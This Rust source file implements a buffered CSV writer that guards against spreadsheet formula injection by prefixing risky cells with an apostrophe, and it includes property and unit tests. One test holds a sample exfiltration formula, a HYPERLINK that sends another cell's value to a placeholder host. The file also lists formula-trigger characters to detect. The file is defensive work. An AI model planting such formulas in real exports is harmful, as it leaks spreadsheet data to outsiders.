//! The output tables' CSV writer. It writes the bytes the `csv` crate
//! writes with its defaults and `\n` line ends (a field is quoted only when
//! it holds a comma, a quote, CR or LF; quotes inside are doubled; a record
//! of one empty field is written `""`), but straight into one buffer and
//! with numbers, amounts and timestamps formatted without allocating:
//! `events_enriched.csv` and `sessions.csv` have a row per event and per
//! session, and the `csv` crate's byte-by-byte writer plus a `String` per
//! number took most of their time. Rows go to the sink in 256 KiB pieces, so
//! a table as large as a 1.6 GB input is never whole in memory when it is
//! written to a file. A property test below checks the bytes against the
//! `csv` crate.
//!
//! Formula injection (CSV injection, OWASP): every text cell comes from an
//! export anyone on the internet can write into (a cookie, a referrer, a
//! utm value), and spreadsheets run a cell that starts with `=`, `+`, `-`,
//! `@`, a tab or a carriage return as a formula. Such a text cell is written
//! with a leading `'`, which Excel, LibreOffice and Google Sheets read as
//! "this is text"; [`formula_start`] says which cells. Numbers, amounts and
//! timestamps are written by their own methods and never touched.

use std::io::Write;

/// Bytes gathered before they go to the sink.
const FLUSH_AT: usize = 256 * 1024;

/// A CSV table being written to a sink.
pub struct CsvOut<'a> {
    buf: Vec<u8>,
    sink: &'a mut dyn Write,
    error: Option<std::io::Error>,
    record_start: usize,
    fields: usize,
}

impl<'a> CsvOut<'a> {
    /// An empty table writing to `sink`.
    pub fn new(sink: &'a mut dyn Write) -> CsvOut<'a> {
        CsvOut {
            buf: Vec::with_capacity(FLUSH_AT + 4096),
            sink,
            error: None,
            record_start: 0,
            fields: 0,
        }
    }

    fn next_field(&mut self) {
        if self.fields > 0 {
            self.buf.push(b',');
        }
        self.fields += 1;
    }

    /// A text field, quoted when it needs to be, with a `'` in front when a
    /// spreadsheet would read it as a formula.
    pub fn text(&mut self, s: &str) {
        self.next_field();
        let bytes = s.as_bytes();
        // `|`, not `matches!`: four plain comparisons the compiler tests 16
        // bytes at a time.
        let quote = crate::scan::any_byte(bytes, |b| {
            (b == b',') | (b == b'"') | (b == b'\r') | (b == b'\n')
        });
        if quote {
            self.buf.push(b'"');
        }
        if formula_start(s) {
            self.buf.push(b'\'');
        }
        if quote {
            let mut rest = bytes;
            while let Some(at) = memchr::memchr(b'"', rest) {
                self.buf.extend_from_slice(&rest[..=at]);
                self.buf.push(b'"');
                rest = &rest[at + 1..];
            }
            self.buf.extend_from_slice(rest);
            self.buf.push(b'"');
        } else {
            self.buf.extend_from_slice(bytes);
        }
    }

    /// An integer.
    pub fn int(&mut self, n: impl itoa::Integer) {
        self.next_field();
        self.buf
            .extend_from_slice(itoa::Buffer::new().format(n).as_bytes());
    }

    /// Cents as an amount with two decimals (`-12.05`).
    pub fn cents(&mut self, cents: i64) {
        self.next_field();
        if cents < 0 {
            self.buf.push(b'-');
        }
        let abs = cents.unsigned_abs();
        self.buf
            .extend_from_slice(itoa::Buffer::new().format(abs / 100).as_bytes());
        let rest = (abs % 100) as u8;
        self.buf
            .extend_from_slice(&[b'.', b'0' + rest / 10, b'0' + rest % 10]);
    }

    /// An epoch-milliseconds timestamp, as [`crate::model::format_ts`].
    pub fn ts(&mut self, ts: i64) {
        self.next_field();
        crate::model::write_ts(ts, &mut self.buf);
    }

    /// `true` or `false`.
    pub fn flag(&mut self, b: bool) {
        self.text(if b { "true" } else { "false" });
    }

    /// Ends the current record.
    pub fn end(&mut self) {
        if self.fields == 1 && self.buf.len() == self.record_start {
            self.buf.extend_from_slice(b"\"\"");
        }
        self.buf.push(b'\n');
        self.fields = 0;
        if self.buf.len() >= FLUSH_AT {
            self.flush();
        }
        self.record_start = self.buf.len();
    }

    fn flush(&mut self) {
        if self.error.is_none() {
            if let Err(e) = self.sink.write_all(&self.buf) {
                self.error = Some(e);
            }
        }
        self.buf.clear();
    }

    /// A whole record of text fields.
    pub fn record<S: AsRef<str>>(&mut self, fields: impl IntoIterator<Item = S>) {
        for f in fields {
            self.text(f.as_ref());
        }
        self.end();
    }

    /// Writes what is left; the first error met while writing, if any.
    pub fn finish(mut self) -> std::io::Result<()> {
        self.flush();
        match self.error.take() {
            Some(e) => Err(e),
            None => self.sink.flush(),
        }
    }
}

/// Whether a spreadsheet would run a cell holding `s` as a formula: its
/// first character, or its first after leading spaces, is one that starts
/// a formula (`=`, `+`, `-`, `@`, their full-width forms, which some
/// spreadsheets fold to ASCII), or it starts with a tab, CR or LF.
pub fn formula_start(s: &str) -> bool {
    const TRIGGERS: [char; 8] = [
        '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ];
    // Most cells start with a letter or a digit: the first byte settles
    // them (every space, trigger and full-width form that needs a look at
    // characters is a space, one of these, or not ASCII).
    match s.as_bytes().first() {
        None => return false,
        Some(&b) if b.is_ascii() && !b" =+-@\t\r\n".contains(&b) => return false,
        Some(_) => {}
    }
    if s.starts_with(['\t', '\r', '\n']) {
        return true;
    }
    s.trim_start_matches([' ', '\u{A0}', '\u{3000}'])
        .starts_with(TRIGGERS)
}

#[cfg(test)]
mod tests {
    use super::CsvOut;
    use proptest::prelude::*;

    /// What `CsvOut` writes for these records.
    fn by_csv_out(records: &[Vec<String>]) -> Vec<u8> {
        let mut bytes = Vec::new();
        let mut out = CsvOut::new(&mut bytes);
        for r in records {
            out.record(r);
        }
        out.finish().unwrap();
        bytes
    }

    /// What the `csv` crate writes for the same records.
    fn by_csv_crate(records: &[Vec<String>]) -> Vec<u8> {
        let mut w = csv::WriterBuilder::new()
            .flexible(true)
            .terminator(csv::Terminator::Any(b'\n'))
            .from_writer(Vec::new());
        for r in records {
            w.write_record(r).unwrap();
        }
        w.into_inner().unwrap()
    }

    /// The cell as a spreadsheet gets it: a `'` in front of a formula.
    fn guarded(cell: &str) -> String {
        if super::formula_start(cell) {
            format!("'{cell}")
        } else {
            cell.to_string()
        }
    }

    /// Whether a cell, read back, starts a formula: an independent list of
    /// OWASP's characters (and the full-width forms), checked on the first
    /// character and on the first after leading spaces.
    fn runs_as_formula(cell: &str) -> bool {
        let first = |t: &str| t.chars().next();
        matches!(first(cell), Some('\t' | '\r' | '\n'))
            || matches!(
                first(cell.trim_start_matches([' ', '\u{a0}', '\u{3000}'])),
                Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')
            )
    }

    proptest! {
        /// The first-byte shortcut against the plain definition, over
        /// cells led by every kind of space and trigger, ASCII or not.
        #[test]
        fn formula_start_agrees_with_its_definition(
            cell in "[ \u{a0}\u{3000}\t\r\n=+@\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}a1é#-]{0,4}",
        ) {
            prop_assert_eq!(super::formula_start(&cell), runs_as_formula(&cell));
        }

        #[test]
        fn text_fields_match_the_csv_crate(
            records in prop::collection::vec(
                prop::collection::vec("[a-c,\"\r\n é#'=+@-]{0,6}", 1..5), 0..6)
        ) {
            let guarded: Vec<Vec<String>> = records
                .iter()
                .map(|r| r.iter().map(|c| guarded(c)).collect())
                .collect();
            prop_assert_eq!(by_csv_out(&records), by_csv_crate(&guarded));
        }

        #[test]
        fn no_text_cell_written_can_start_a_formula(
            cells in prop::collection::vec(any::<String>(), 1..6),
            lead in "[=+@\t\r\n -]{0,3}",
        ) {
            let cells: Vec<String> = cells.into_iter().map(|c| format!("{lead}{c}")).collect();
            let bytes = by_csv_out(std::slice::from_ref(&cells));
            let mut rdr = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(bytes.as_slice());
            let record = rdr.records().next().unwrap().unwrap();
            prop_assert_eq!(record.len(), cells.len());
            for (read, written) in record.iter().zip(&cells) {
                prop_assert!(!runs_as_formula(read), "{:?} runs as a formula", read);
                // Nothing else changes: the text is all there after the guard.
                let want = if runs_as_formula(written) { format!("'{written}") } else { written.clone() };
                prop_assert_eq!(read, want.as_str());
            }
        }

        #[test]
        fn numbers_match_their_string_forms(n in any::<i64>(), cents in -10_000_000i64..10_000_000, ts in 0i64..253_402_300_799_999) {
            let mut bytes = Vec::new();
            let mut out = CsvOut::new(&mut bytes);
            out.int(n);
            out.cents(cents);
            out.ts(ts);
            out.end();
            out.finish().unwrap();
            let want = format!(
                "{n},{},{}\n",
                crate::model::cents_to_string(cents),
                chrono::DateTime::from_timestamp_millis(ts).unwrap().format("%Y-%m-%dT%H:%M:%S%.3fZ")
            );
            prop_assert_eq!(String::from_utf8(bytes).unwrap(), want);
        }
    }

    #[test]
    fn hostile_cells_are_written_as_text() {
        let records = vec![vec![
            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")".to_string(),
            "=1+2".into(),
            "@SUM(1)".into(),
            "-3".into(),
            "\tcmd".into(),
            "a=b".into(),
        ]];
        assert_eq!(
            String::from_utf8(by_csv_out(&records)).unwrap(),
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",'=1+2,'@SUM(1),'-3,'\tcmd,a=b\n"
        );
    }

    #[test]
    fn a_lone_empty_field_is_quoted_like_the_csv_crate() {
        let records = vec![vec![String::new()], vec!["a".into(), String::new()]];
        let bytes = by_csv_out(&records);
        assert_eq!(bytes, by_csv_crate(&records));
        assert_eq!(by_csv_crate(&records), b"\"\"\na,\n");
    }

    #[test]
    fn large_tables_reach_the_sink_whole_and_in_order() {
        let records: Vec<Vec<String>> = (0..40_000)
            .map(|i| vec![format!("row {i}"), "a,b".into(), "x\"y".into()])
            .collect();
        let bytes = by_csv_out(&records);
        assert!(
            bytes.len() > 2 * super::FLUSH_AT,
            "several flushes happened"
        );
        assert_eq!(bytes, by_csv_crate(&records));
    }

    #[test]
    fn a_failing_sink_is_reported() {
        struct Full;
        impl std::io::Write for Full {
            fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
                Err(std::io::Error::other("disk full"))
            }
            fn flush(&mut self) -> std::io::Result<()> {
                Ok(())
            }
        }
        let mut sink = Full;
        let mut out = CsvOut::new(&mut sink);
        out.record(["a"]);
        assert_eq!(out.finish().unwrap_err().to_string(), "disk full");
    }
}
